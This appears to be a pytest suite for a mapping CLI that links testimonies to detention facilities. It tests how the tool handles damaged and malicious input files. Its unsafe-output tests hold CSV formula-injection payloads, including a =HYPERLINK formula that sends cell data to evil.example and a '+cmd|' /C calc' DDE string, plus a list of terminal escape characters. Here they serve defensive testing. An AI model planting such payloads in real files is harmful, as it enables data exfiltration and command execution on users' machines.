"""The hostile corpus: damaged and malicious files investigators really receive.

One test per class (tests/data/hostile/README.md lists them). Each one passes when the
command either refuses with a clear message (file, row where it helps, what to do) and exit
status 1, or reads the file correctly and says what it repaired; never a traceback, never a
row lost silently, never a live formula in a CSV, never a terminal escape echoed raw.
Expected values are written by hand from the files' contents.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
from pathlib import Path

import pytest
from click.testing import CliRunner

from mapper.cli import main

HOSTILE = Path(__file__).parent / "data" / "hostile"
TAG = "ru-rostov-taganrog-sizo-2"
SIMF = "ua-crimea-simferopol-sizo-1"
OLEN = "ua-donetsk-olenivka-ik-120"
#: Bytes that must never reach a terminal raw: ESC, BEL, CSI (C1), RLO, LRI/PDI.
TERMINAL_CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e", "\u2066", "\u2069", "\r")


def run(*args) -> tuple[int, str]:
    """Run the CLI in-process; fail on any traceback; return (exit code, all output)."""
    res = CliRunner().invoke(main, [str(a) for a in args])
    assert res.exception is None or isinstance(res.exception, SystemExit), (
        "traceback instead of a message:\n" + "".join(
            __import__("traceback").format_exception(*res.exc_info)))
    return res.exit_code, res.output


def counts(path: Path) -> dict[str, int]:
    """Testimonies per facility id in a joined layer (only facilities with some)."""
    data = json.loads(path.read_text(encoding="utf-8"))
    return {f["properties"]["id"]: f["properties"]["testimonies"] for f in data["features"]
            if f["properties"]["testimonies"]}


def rows_of(path: Path) -> list[dict[str, str]]:
    csv.field_size_limit(1 << 28)
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def join(tmp_path: Path, name: str, *extra) -> tuple[int, str, Path]:
    out = tmp_path / "joined.geojson"
    code, text = run("join", HOSTILE / name, "-o", out, *extra)
    return code, text, out


def refused(code: int, text: str, *words: str) -> None:
    assert code == 1, text
    assert "Error:" in text and "Traceback" not in text
    for w in words:
        assert w in text, text


# --- spreadsheets ----------------------------------------------------------------------

def test_xlsx_other_sheets_are_named_never_ignored_silently(tmp_path):
    code, text, out = join(tmp_path, "multi_sheet.xlsx")
    assert code == 0, text
    assert "NOT read: 'Лист2' (about 4 rows)" in text and "--sheet" in text
    assert "Sheet3" not in text  # an empty sheet is not worth a warning
    assert counts(out) == {TAG: 1, SIMF: 1}
    code, text = run("validate", HOSTILE / "multi_sheet.xlsx")
    assert code == 1 and "NOT read: 'Лист2'" in text
    code, text, out = join(tmp_path, "multi_sheet.xlsx", "--sheet", "Лист2")
    assert code == 0 and "NOT read" not in text, text
    assert counts(out) == {OLEN: 2, TAG: 1}
    code, text = run("validate", HOSTILE / "multi_sheet.xlsx", "--sheet", "2")
    assert code == 0, text
    code, text, _ = join(tmp_path, "multi_sheet.xlsx", "--sheet", "Аркуш9")
    refused(code, text, "no sheet 'Аркуш9'", "'Лист1', 'Лист2', 'Sheet3'")


def test_xlsx_hidden_first_sheet_is_not_read_instead_of_the_visible_one(tmp_path):
    code, text, out = join(tmp_path, "hidden_first_sheet.xlsx")
    assert code == 0, text
    assert "NOT read: 'old' (about 2 rows, hidden); only 'current' was" in text
    assert counts(out) == {TAG: 2}


def test_xlsx_merged_cells_fill_every_row_of_the_range(tmp_path):
    code, text, out = join(tmp_path, "merged_cells.xlsx")
    assert code == 0, text
    assert "A2:A4" in text and "merged" in text
    assert counts(out) == {TAG: 3, SIMF: 1}  # not two "empty reference" rows


def test_xlsx_named_csv_is_read_as_a_workbook(tmp_path):
    code, text, out = join(tmp_path, "xlsx_named.csv")
    assert code == 0, text
    assert "Excel workbook (.xlsx) although its name ends in .csv" in text
    assert counts(out) == {TAG: 1, SIMF: 1}


def test_xlsx_formulas_never_calculated_are_told_not_read_as_empty_silently(tmp_path):
    code, text, _ = join(tmp_path, "uncached_formulas.xlsx")
    refused(code, text, "column 'count' holds values that are not whole numbers on rows 2")
    assert "1 cell(s) hold formulas that were never calculated (B2)" in text


# --- columns ---------------------------------------------------------------------------

def test_duplicate_reference_column_is_refused_not_guessed(tmp_path):
    code, text, _ = join(tmp_path, "duplicate_columns.csv")
    refused(code, text, "2 columns are named 'facility'", "facility (2)")
    code, text, out = join(tmp_path, "duplicate_columns.csv", "--reference", "facility (2)")
    assert code == 0, text
    assert counts(out) == {SIMF: 1, TAG: 1}
    code, text, _ = join(tmp_path, "duplicate_other_column.csv")
    assert code == 0 and "two columns are named 'note' (columns B and C)" in text


def test_own_facility_id_column_is_kept_not_overwritten(tmp_path):
    out = tmp_path / "matched.csv"
    code, text = run("match", HOSTILE / "own_facility_id.csv", "-o", out)
    assert code == 0, text
    assert "own 'facility_id' column" in text
    rows = rows_of(out)
    assert [r["facility_id (in file)"] for r in rows] == ["my-own-code-17", "my-own-code-18"]
    assert [r["facility_id"] for r in rows] == [TAG, SIMF]


def test_row_number_column_is_not_summed_as_counts(tmp_path):
    code, text, out = join(tmp_path, "row_number_column.csv")
    assert code == 0, text
    assert "column 'n' holds 1, 2, 3" in text and "NOT used as counts" in text
    assert counts(out) == {TAG: 2, SIMF: 1, OLEN: 2}  # 5 rows, not 1+2+3+4+5


def test_title_rows_above_the_header_are_skipped_and_rows_keep_their_numbers(tmp_path):
    code, text, out = join(tmp_path, "title_above_header.csv")
    assert code == 0, text
    assert "the header is on row 3" in text and "Звіт про утримання" in text
    assert counts(out) == {TAG: 1}
    [bad] = rows_of(tmp_path / "joined_unmatched.csv")
    assert bad["row"] == "5" and bad["reference"] == "Невідома установа Х"


def test_trailing_empty_rows_and_columns_are_padding_not_rows(tmp_path):
    code, text, out = join(tmp_path, "trailing_padding.csv")
    assert code == 0, text
    assert "Read 2 rows" in text
    assert counts(out) == {TAG: 1, SIMF: 1}
    assert rows_of(tmp_path / "joined_unmatched.csv") == []


def test_rows_with_extra_cells_are_refused_with_their_row(tmp_path):
    code, text, _ = join(tmp_path, "ragged_row.csv")
    refused(code, text, "row 3 has 5 cells but the header names 3 columns", "quotes")


def test_short_rows_are_padded(tmp_path):
    code, text, out = join(tmp_path, "short_rows.csv")
    assert code == 0, text
    assert counts(out) == {TAG: 1, SIMF: 1}


def test_empty_files_are_refused(tmp_path):
    for name in ("empty.csv", "only_blank_lines.csv"):
        code, text, _ = join(tmp_path, name)
        refused(code, text, name, "is empty")


# --- bytes and encodings ---------------------------------------------------------------

def test_nul_bytes_do_not_change_the_row_count(tmp_path):
    code, text, out = join(tmp_path, "nul_bytes.csv")
    assert code == 0, text
    assert "Read 3 rows" in text and "2 NUL byte(s)" in text and "line(s) 3" in text
    assert counts(out) == {TAG: 1, SIMF: 1, OLEN: 1}


def test_mixed_utf8_and_cp1251_lines_are_each_read_in_their_encoding(tmp_path):
    code, text, out = join(tmp_path, "mixed_utf8_cp1251.csv")
    assert code == 0, text
    assert "mixed encodings: 1 line(s) are cp1251" in text and "lines 3" in text
    assert counts(out) == {TAG: 2, OLEN: 1}


@pytest.mark.parametrize("name", ["utf16le_no_bom.csv", "utf16be_no_bom.csv"])
def test_utf16_without_bom_gives_real_column_names(tmp_path, name):
    code, text, out = join(tmp_path, name)
    assert code == 0, text
    assert "UTF-16" in text and "\\x00" not in text
    assert counts(out) == {TAG: 1, OLEN: 1}


def test_utf16_with_bom_tab_separated_text(tmp_path):
    code, text, out = join(tmp_path, "utf16_bom_tab.txt")
    assert code == 0, text
    assert counts(out) == {TAG: 1}


def test_utf8_bom_does_not_stick_to_the_first_column_name(tmp_path):
    code, text, out = join(tmp_path, "utf8_bom.csv")
    assert code == 0, text
    assert counts(out) == {TAG: 1}


@pytest.mark.parametrize("name,kind", [("scan_pdf_named.csv", "a PDF document"),
                                       ("random_binary.csv", "binary data"),
                                       ("web_page_named.csv", "a web page (HTML)"),
                                       ("xml_spreadsheet_2003.csv",
                                        "an Excel 2003 XML spreadsheet")])
def test_binary_files_named_csv_are_refused(tmp_path, name, kind):
    code, text, _ = join(tmp_path, name)
    refused(code, text, name, kind, "save it as CSV UTF-8")


def test_excel_sep_line_names_the_delimiter(tmp_path):
    code, text, out = join(tmp_path, "excel_sep_line.csv")
    assert code == 0, text
    assert counts(out) == {TAG: 1, SIMF: 1}


def test_excel_uk_locale_semicolons_cp1251_and_number_formats(tmp_path):
    # установа;кількість;рік with counts "12,0" and "1 234" (no-break space), in cp1251
    code, text, out = join(tmp_path, "excel_uk_locale.csv")
    assert code == 0, text
    assert "aggregated" in text
    assert counts(out) == {TAG: 12, SIMF: 1234, OLEN: 7}


def test_old_mac_cr_line_endings(tmp_path):
    code, text, out = join(tmp_path, "mac_cr_line_endings.csv")
    assert code == 0 and "Read 2 rows" in text, text
    assert counts(out) == {TAG: 1, SIMF: 1}


def test_tab_separated_file_named_csv(tmp_path):
    code, text, out = join(tmp_path, "tab_separated_named.csv")
    assert code == 0, text
    assert counts(out) == {TAG: 1}
    [bad] = rows_of(tmp_path / "joined_unmatched.csv")
    assert bad["row"] == "3" and bad["reference"] == "Невідоме"


def test_multiline_cells_keep_spreadsheet_row_numbers(tmp_path):
    code, text, _ = join(tmp_path, "multiline_cells.csv")
    assert code == 0 and "Read 2 rows" in text, text
    [bad] = rows_of(tmp_path / "joined_unmatched.csv")
    assert bad["row"] == "3"  # the second record, as a spreadsheet numbers it


def test_a_quote_never_closed_is_refused_not_swallowing_rows(tmp_path):
    code, text, _ = join(tmp_path, "unclosed_quote.csv")
    refused(code, text, "row 2, column 'facility'", "2 more row(s)",
            "'SIZO-1 Simferopol,2023'", "never closed")
    code, text, out = join(tmp_path, "quote_inside_cell.csv")  # a quote inside: harmless
    assert code == 0, text
    assert counts(out) == {TAG: 1, SIMF: 1}


def test_invisible_characters_and_homoglyphs_in_references(tmp_path):
    # zero-width space inside Таганрог, a soft hyphen, a Latin I in "СIЗО"
    code, text, out = join(tmp_path, "invisible_characters.csv")
    assert code == 0, text
    assert counts(out) == {TAG: 2, SIMF: 1}


# --- values ----------------------------------------------------------------------------

@pytest.mark.parametrize("name,rows", [("huge_counts.csv", "rows 3."),
                                       ("int64_overflow.csv", "rows 2, 3.")])
def test_counts_too_large_are_refused_never_wrapped(tmp_path, name, rows):
    code, text, _ = join(tmp_path, name)
    refused(code, text, "too large to be numbers of testimonies", rows)


def test_dates_before_2014_or_in_the_future_are_counted_with_a_warning(tmp_path):
    code, text, out = join(tmp_path, "dates_out_of_range.csv")
    assert code == 0, text
    assert "row 2 (СІЗО-2 Таганрог): date '1999-05-01' is before 2014" in text
    assert "row 3 (SIZO-1 Simferopol): date '01.03.2013' is before 2014" in text
    assert "row 4 (Olenivka colony): date '2091-01-01' is in the future" in text
    assert "row 5" not in text
    assert counts(out) == {TAG: 2, SIMF: 1, OLEN: 1}


def test_a_1mb_cell_is_reported_not_parsed(tmp_path):
    big = tmp_path / "big_cell.csv"
    cell = ("СІЗО-2 Таганрог ІК-12 №7 " * 45000)[:1_000_000]
    big.write_text(f"facility\n\"{cell}\"\nСІЗО-2 Таганрог\n", encoding="utf-8")
    out = tmp_path / "j.geojson"
    code, text = run("join", big, "-o", out)
    assert code == 0, text
    assert counts(out) == {TAG: 1}
    [row] = rows_of(tmp_path / "j_unmatched.csv")
    # 40,000 × 25 characters; the reader strips the final space
    assert row["row"] == "2" and "999,999 characters long" in row["match_reason"]


# --- unsafe output ---------------------------------------------------------------------

LIVE = ("=", "+", "-", "@", "\t", "\r")


def assert_inert(path: Path) -> int:
    """Every cell of a CSV is inert; return how many cells were defused."""
    defused = 0
    for row in csv.reader(open(path, encoding="utf-8-sig", newline="")):  # noqa: SIM115
        for cell in row:
            assert not cell.startswith(LIVE), (path.name, cell)
            defused += cell.startswith("'") and cell[1:].startswith(LIVE)
    return defused


def test_formula_injection_is_inert_in_every_csv_written(tmp_path):
    code, text, _ = join(tmp_path, "formula_injection.csv")
    assert code == 0, text
    report = tmp_path / "joined_unmatched.csv"
    assert assert_inert(report) == 6  # =HYPERLINK, +cmd, -2+3, @SUM, tab, CR
    refs = [r["reference"] for r in rows_of(report)]
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in refs
    assert "'-2+3" in refs and "'@SUM(1+1)" in refs
    for name in ("joined_flows.csv", "joined_regions.csv"):
        assert_inert(tmp_path / name)
    matched = tmp_path / "matched.csv"
    code, text = run("match", HOSTILE / "formula_injection.csv", "-o", matched)
    assert code == 0, text
    # 6 references (tab and CR are stripped on reading, leaving '=1+2') and the note '=2+5'
    assert assert_inert(matched) == 7


def test_formula_in_a_column_name_is_inert_in_match_output_and_exports(tmp_path):
    src = tmp_path / "header.csv"
    src.write_text('facility,"=HYPERLINK(""http://evil.example"",""x"")"\nСІЗО-2 Таганрог,1\n',
                   encoding="utf-8")
    code, text = run("match", src, "-o", tmp_path / "m.csv")
    assert code == 0, text
    assert assert_inert(tmp_path / "m.csv") == 1
    layer = json.loads((Path(__file__).parents[1] / "facilities.geojson")
                       .read_text(encoding="utf-8"))
    layer["features"] = layer["features"][:2]
    layer["features"][0]["properties"]["@SUM(1)"] = "+1"
    joined = tmp_path / "joined.geojson"
    joined.write_text(json.dumps(layer, ensure_ascii=False), encoding="utf-8")
    code, text = run("export", "--joined", joined, "-o", tmp_path / "e.csv")
    assert code == 0, text
    assert assert_inert(tmp_path / "e.csv") >= 2  # the header and the cell


def test_formula_text_cells_from_xlsx_are_inert(tmp_path):
    matched = tmp_path / "matched.csv"
    code, text = run("match", HOSTILE / "formula_text_cells.xlsx", "-o", matched)
    assert code == 0, text
    rows = rows_of(matched)
    assert rows[0]["note"] == "'+cmd|' /C calc'!A0" and rows[1]["note"] == "'-2+3"
    assert rows[2]["note"] == "'=1+1" and rows[2]["facility_id"] == TAG
    assert_inert(matched)


def test_terminal_controls_from_a_file_never_reach_the_terminal(tmp_path):
    outputs = [join(tmp_path, "terminal_escapes.csv")[:2],
               join(tmp_path, "terminal_escapes.csv", "--count", "date")[:2],
               run("validate", HOSTILE / "terminal_escapes.csv"),
               run("match", HOSTILE / "terminal_escapes.csv", "-o", tmp_path / "m.csv")]
    for _code, text in outputs:
        for ch in TERMINAL_CONTROLS:
            assert ch not in text, (repr(ch), text)
    code, text = outputs[0]
    refused(code, text, "row 4: '\\x9b31m3'")


# --- outputs as a set ------------------------------------------------------------------

def test_output_onto_the_input_is_refused_and_the_input_kept(tmp_path):
    src = tmp_path / "testimonies.csv"
    src.write_bytes((HOSTILE / "utf8_bom.csv").read_bytes())
    before = src.read_bytes()
    code, text = run("match", src, "-o", src)
    refused(code, text, "this is the input file", "-o")
    # a sibling output of join landing on the input is refused too
    victim = tmp_path / "x_unmatched.csv"
    victim.write_bytes(before)
    code, text = run("join", victim, "-o", tmp_path / "x.geojson")
    refused(code, text, "this is the input file")
    assert src.read_bytes() == before and victim.read_bytes() == before


def test_unwritable_folder_gives_a_message(tmp_path):
    if os.geteuid() == 0:  # root ignores permission bits; sysfs refuses even root
        folder = Path("/sys")
        if not folder.is_dir():
            pytest.skip("no read-only folder to try")
    else:
        folder = tmp_path / "ro"
        folder.mkdir()
        folder.chmod(0o555)
    code, text = run("match", HOSTILE / "utf8_bom.csv", "-o", folder / "m.csv")
    refused(code, text, "cannot write here")
    code, text = run("join", HOSTILE / "utf8_bom.csv", "-o", folder / "j.geojson")
    refused(code, text, "cannot write here")
    a_file = tmp_path / "plain.txt"
    a_file.write_text("x")
    code, text = run("match", HOSTILE / "utf8_bom.csv", "-o", a_file / "m.csv")
    refused(code, text, "cannot write here")


def test_a_folder_where_a_sibling_output_goes_stops_the_whole_set(tmp_path):
    (tmp_path / "joined_flows.csv").mkdir()
    code, text, out = join(tmp_path, "utf8_bom.csv")
    refused(code, text, "joined_flows.csv: a folder has this name")
    assert not out.exists() and not (tmp_path / "joined_unmatched.csv").exists()


def test_a_kill_between_moves_leaves_a_detectable_incomplete_set(tmp_path, monkeypatch):
    from mapper.join import join_testimonies, read_testimonies, write_join
    from mapper.layer import load_facilities
    from mapper.manifest import record, verify

    result = join_testimonies(load_facilities(), read_testimonies(HOSTILE / "utf8_bom.csv"))
    paths = write_join(result, tmp_path / "j.geojson")
    record("join", inputs=[], outputs=list(paths.values()))
    assert verify(tmp_path / "mapper-manifest.json") == []
    real, moved = os.replace, []

    def killed_after_two(src, dst):
        final = Path(dst).parent == tmp_path and not Path(dst).name.startswith(".")
        if final and len(moved) == 2:
            raise KeyboardInterrupt  # the process dies between two renames into place
        moved.extend([dst] if final else [])
        real(src, dst)

    monkeypatch.setattr(os, "replace", killed_after_two)
    report = tmp_path / "private" / "r.csv"
    with pytest.raises(KeyboardInterrupt):
        write_join(result, tmp_path / "j.geojson", public=True, report=report)
    monkeypatch.setattr(os, "replace", real)
    problems = verify(tmp_path / "mapper-manifest.json")
    # the public set is the four public files; the restricted report is written elsewhere,
    # after the set, so the kill left it unwritten
    incomplete = [p for p in problems if p.endswith("(incomplete set)")]
    assert incomplete == ["j.geojson (incomplete set)", "j_flows.csv (incomplete set)",
                          "j_flows.geojson (incomplete set)", "j_regions.csv (incomplete set)"]
    assert not report.exists()
    assert not list(tmp_path.glob(".mapper-staging-*"))


def test_a_foreign_manifest_is_never_overwritten(tmp_path):
    theirs = tmp_path / "mapper-manifest.json"
    theirs.write_text('{"project": "someone else\'s"}\n')
    code, text = run("match", HOSTILE / "utf8_bom.csv", "-o", tmp_path / "m.csv")
    refused(code, text, "was not written by the mapper", "left untouched")
    assert theirs.read_text() == '{"project": "someone else\'s"}\n'
    assert not (tmp_path / "m.csv").exists()
    code, text = run("match", HOSTILE / "utf8_bom.csv", "-o", tmp_path / "x" /
                     "mapper-manifest.json")
    refused(code, text, "this name is kept")


def test_a_sibling_output_never_replaces_a_file_the_mapper_did_not_write(tmp_path):
    theirs = tmp_path / "joined_regions.csv"
    theirs.write_text("my own regions table\n")
    code, text, out = join(tmp_path, "utf8_bom.csv")
    refused(code, text, "joined_regions.csv: a file of this name is already here")
    assert theirs.read_text() == "my own regions table\n" and not out.exists()
    theirs.unlink()
    for _ in range(2):  # the mapper's own set is replaced on the next run
        code, text, out = join(tmp_path, "utf8_bom.csv")
        assert code == 0, text


def test_manifest_marks_testimony_entries_and_embeds_no_rows(tmp_path):
    src = tmp_path / "private" / "interview_Petrenko.csv"  # a file name can name a witness
    src.parent.mkdir()
    src.write_text("facility,witness\nСІЗО-2 Таганрог,Петренко Олена Іванівна\n"
                   "Невідоме місце,Коваль Іван\n", encoding="utf-8")
    code, text = run("join", src, "-o", tmp_path / "out" / "pub.geojson", "--public")
    assert code == 0, text
    manifest = (tmp_path / "out" / "mapper-manifest.json").read_text(encoding="utf-8")
    for personal in ("Петренко", "Коваль", "Невідоме місце", "Petrenko", "private",
                     "RESTRICTED_unmatched"):
        assert personal not in manifest
    data = json.loads(manifest)
    assert data["generator"] == "mapper"
    assert sorted(data["outputs"]) == ["pub.geojson", "pub_flows.csv", "pub_flows.geojson",
                                       "pub_regions.csv"]
    entry = data["outputs"]["pub.geojson"]
    assert "restricted" not in entry
    testimony = next(i for i in entry["inputs"] if i.get("restricted"))
    assert testimony["label"] == "restricted input 1" and "path" not in testimony
    assert testimony["rows"] == 2 and testimony["bytes"] == src.stat().st_size
    assert testimony["sha256"] == hashlib.sha256(src.read_bytes()).hexdigest()
    (report,) = entry["restricted_outputs"]
    assert report["label"] == "restricted output 1" and report["restricted"] is True
    assert report["rows"] == 1 and "path" not in report
    # the report, beside the testimony file, has its own manifest there, naming it
    private = json.loads((src.parent / "mapper-manifest.json").read_text(encoding="utf-8"))
    assert private["outputs"]["interview_Petrenko_RESTRICTED_unmatched_pub.csv"][
        "restricted"] is True
    # both manifests verify (a labelled entry has no path to check, and no traceback)
    from mapper.manifest import verify

    assert verify(tmp_path / "out" / "mapper-manifest.json") == []
    assert verify(src.parent / "mapper-manifest.json") == []


# --- malformed layers: validate and diff -------------------------------------------------

LAYERS = {
    "layer_null_geometry.geojson": "(ru-rostov-taganrog-sizo-2): has no geometry (null)",
    "layer_multipoint.geojson": "geometry is a MultiPoint, not a Point",
    "layer_top_level_array.geojson": "a bare list of 2 features, not a GeoJSON "
                                     "FeatureCollection",
    "layer_web_mercator.geojson": "(ru-rostov-taganrog-sizo-2): coordinates [4330918.19, "
                                  "5980724.98] are not degrees (they look like Web-Mercator",
    "layer_nan_inf.geojson": "(ua-crimea-simferopol-sizo-1): coordinates [inf, 44.9] are "
                             "not finite",
    "layer_missing_ids.geojson": "(feature 2): has no id",
    "layer_duplicate_ids.geojson": "duplicate id 'ru-rostov-taganrog-sizo-2' (also feature 1)",
    "layer_not_json.geojson": "not a readable GeoJSON file",
}


@pytest.mark.parametrize("name", sorted(LAYERS))
def test_malformed_layers_are_explained_by_validate_and_diff(tmp_path, name):
    from mapper.paths import layer_path

    code, text = run("validate", HOSTILE / name)
    assert code == 1 and LAYERS[name] in text, text
    assert "is not of type" not in text  # plain words, not the schema's
    code, text = run("diff", layer_path(), HOSTILE / name, "-o", tmp_path / "changes.geojson")
    refused(code, text, LAYERS[name])
    assert not (tmp_path / "changes.geojson").exists()


def test_lists_saved_as_text_by_qgis_are_read_back_as_lists(tmp_path):
    name = HOSTILE / "layer_lists_as_text.geojson"
    code, text = run("validate", name)
    assert code == 1 and "'aliases' holds a list saved as text" in text
    assert "is not of type 'array'" not in text
    from mapper.layer import read_geojson

    gdf = read_geojson(name)
    rec = gdf.set_index("id").loc[TAG]
    assert rec["aliases"] == ["ФКУ СИЗО-2 ГУФСИН России по Ростовской области"]
    assert rec["former_ids"] == [] and rec["sources"][0]["url"].startswith("https://")
    # the same two facilities, unchanged but for the list encoding: no change to report
    clean = tmp_path / "two.geojson"
    data = json.loads(name.read_text(encoding="utf-8"))
    for f in data["features"]:
        for k in ("aliases", "sources"):
            f["properties"][k] = json.loads(f["properties"][k])
        f["properties"]["former_ids"] = []
    clean.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    code, text = run("diff", clean, name)
    assert code == 0 and "No changes." in text and "holds a list saved as text" in text


# --- registry rows that used to pass ----------------------------------------------------

def _registry_with(tmp_path: Path, edit) -> Path:
    """The committed registry's Olenivka row (a sourced coordinate), edited, as a file."""
    from mapper.paths import registry_path

    with open(registry_path(), encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    [row] = [r for r in rows if r["id"] == OLEN]
    out = tmp_path / "registry.csv"
    new = edit(dict(row))
    with open(out, "w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(new)
    return out


def test_registry_coordinate_in_another_region_than_stated(tmp_path):
    # Olenivka's sourced point (47.82846, 37.71093) lies in Donetsk oblast (UA-14),
    # while this row says Zaporizhzhia oblast (UA-23)
    path = _registry_with(tmp_path, lambda r: [{**r, "region_code": "UA-23"}])
    code, text = run("validate", path)
    assert code == 1 and "row 2 (ua-donetsk-olenivka-ik-120)" in text, text
    assert "lies in UA-14, not in UA-23" in text


def test_registry_row_copied_under_a_new_id(tmp_path):
    path = _registry_with(tmp_path, lambda r: [r, {**r, "id": "ua-donetsk-olenivka-colony"}])
    code, text = run("validate", path)
    assert code == 1, text
    assert "row 3 (ua-donetsk-olenivka-colony): repeats row 2 (ua-donetsk-olenivka-ik-120)" \
        in text


def test_registry_dates_in_the_future(tmp_path):
    path = _registry_with(tmp_path, lambda r: [{**r, "last_reported": "2091-01"}])
    code, text = run("validate", path)
    assert code == 1 and "last_reported '2091-01' is in the future" in text, text


def test_registry_workbook_needing_repairs_is_not_built(tmp_path):
    import openpyxl

    from mapper.paths import registry_path

    with open(registry_path(), encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    wb = openpyxl.Workbook()
    ws = wb.active
    for r in rows[:3]:
        ws.append(r)
    ws.merge_cells("G2:G3")  # one 'country' cell spanning two facilities
    wb.create_sheet("more").append(rows[0])
    wb["more"].append(rows[3])
    src = tmp_path / "registry.xlsx"
    wb.save(src)
    code, text = run("build", "--registry", src, "-o", tmp_path / "layer.geojson")
    assert code == 1 and "Cannot build" in text and "Traceback" not in text
    for words in ("merged cell range(s)", "G2:G3", "NOT read: 'more'"):
        assert words in text, text
    assert not (tmp_path / "layer.geojson").exists()


def test_map_and_its_unplaced_report_are_recorded_as_one_set(tmp_path):
    from mapper.manifest import verify

    out = tmp_path / "map.html"
    code, text = run("map", "--testimonies", HOSTILE / "title_above_header.csv", "-o", out)
    assert code == 0, text
    data = json.loads((tmp_path / "mapper-manifest.json").read_text(encoding="utf-8"))
    assert set(data["outputs"]) == {"map.html", "map_unmatched.csv"}
    assert data["outputs"]["map_unmatched.csv"]["restricted"] is True
    (tmp_path / "map_unmatched.csv").write_text("row\n")  # a half-replaced set
    assert verify(tmp_path / "mapper-manifest.json") == ["map_unmatched.csv"]
    theirs = tmp_path / "other_unmatched.csv"
    theirs.write_text("mine\n")
    code, text = run("map", "--testimonies", HOSTILE / "title_above_header.csv",
                     "-o", tmp_path / "other.html")
    refused(code, text, "other_unmatched.csv: a file of this name is already here")
    assert theirs.read_text() == "mine\n"
